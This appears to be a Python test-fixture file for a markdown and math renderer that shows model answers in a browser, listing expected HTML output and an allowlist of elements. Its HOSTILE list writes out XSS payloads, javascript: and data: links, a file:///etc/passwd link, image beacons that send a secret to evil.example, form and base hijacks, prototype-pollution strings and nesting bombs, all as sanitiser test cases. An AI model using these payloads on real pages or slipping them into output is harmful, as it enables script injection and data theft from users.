"""What a text must look like as nodes, and texts that try to do harm."""


def link(target, words):
    return (f'<a href="{target}" title="{target}" target="_blank"'
            f' rel="noopener noreferrer nofollow">{words}</a>')


# Markdown and the markup that its nodes have when the browser writes them out.
MARKDOWN = [
    ("plain", "<p>plain</p>"),
    ("a *b* **c** ***d*** ~~e~~", "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em>"
     " <del>e</del></p>"),
    ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
    ("**open", "<p>**open</p>"),
    ("`a *b*` ``c ` d``", "<p><code>a *b*</code> <code>c ` d</code></p>"),
    ("# One\n\n### Two ##", "<h3>One</h3><h5>Two</h5>"),
    ("#hashtag", "<p>#hashtag</p>"),
    ("- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
    ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
    ("3) a", '<ol start="3"><li>a</li></ol>'),
    ("It was in\n1984. Then", "<p>It was in\n1984. Then</p>"),
    ("> q\nr\n\nt", "<blockquote><p>q\nr</p></blockquote><p>t</p>"),
    ("---", "<hr>"),
    ("a  \nb\\\nc", "<p>a<br>b<br>c</p>"),
    ("It costs $5 and $6.", "<p>It costs $5 and $6.</p>"),
    ("[a](https://x.example/b_(c))", f"<p>{link('https://x.example/b_(c)', 'a')}</p>"),
    ("![alt](https://x.example/i.png)", f"<p>{link('https://x.example/i.png', 'alt')}</p>"),
    ("See http://x.example/.", f"<p>See {link('http://x.example/', 'http://x.example/')}.</p>"),
    ("[a](javascript:alert(1))", '<p><span class="dead-link">a (javascript:alert(1))</span></p>'),
    ("<b>not bold</b>", "<p>&lt;b&gt;not bold&lt;/b&gt;</p>"),
    ("\\*a\\*", "<p>*a*</p>"),
]

# Formulas, and the text their nodes hold. What is not known is shown as it was written.
FORMULAS = [
    (r"\frac{a}{b}", "mfrac", "ab"),
    (r"x_1^2", "msubsup", "x12"),
    (r"\sum_{i=1}^n i", "munderover", "\u2211i=1ni"),
    (r"\begin{pmatrix} a & b \\ c & d \end{pmatrix}", "mtable", "(abcd)"),
    (r"\sqrt[3]{x}", "mroot", "x3"),
    (r"\mathbb{R}", "mi", "\u211d"),
    (r"\unknown{x}", "code", r"\unknown{x}"),
    (r"\frac{a}", "code", r"\frac{a}"),
    ("{" * 100, "code", "{" * 100),
    (r"\text{<img src=x onerror=alert(1)>}", "mtext", "<img src=x onerror=alert(1)>"),
]

# Answers that must stay words: none may become an element, or ask another machine for anything.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)",
    "![x](https://evil.example/steal.png?q=secret)",
    "<https://evil.example/> https://evil.example/auto",
    "[x](//evil.example/) [y](/models/unload) [z](https://user:pw@evil.example/)",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```__proto__\nx\n```\n\n```constructor\ny\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [a](data:b) |",
    r"$\href{javascript:alert(1)}{x}$ $$\class{a}{b}$$ $\constructor$ $\__proto__$",
    r"$\begin{__proto__} a \end{__proto__}$ $\mathbf{<b>}$",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=q></form><base href=https://evil.example>",
    "# <img src=x onerror=alert(1)>\n\n> <b>x</b>\n\n- <i>y</i>\n\n1. <u>z</u>",
    "\u202egnp.exe \u0000 \ufffd \U000e0041",
    "**" * 5000 + "[" * 5000 + "> " * 500 + "- " * 500,
    "$$" + "\\frac{" * 500 + "x",
]

# Elements that an answer may become; all else was made by somebody else's words.
ALLOWED = """a blockquote br button code del div em h3 h4 h5 h6 hr input li math mfrac mi mn mo
    mover mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder munderover ol p path
    pre span strong svg table tbody td th thead tr ul""".split()
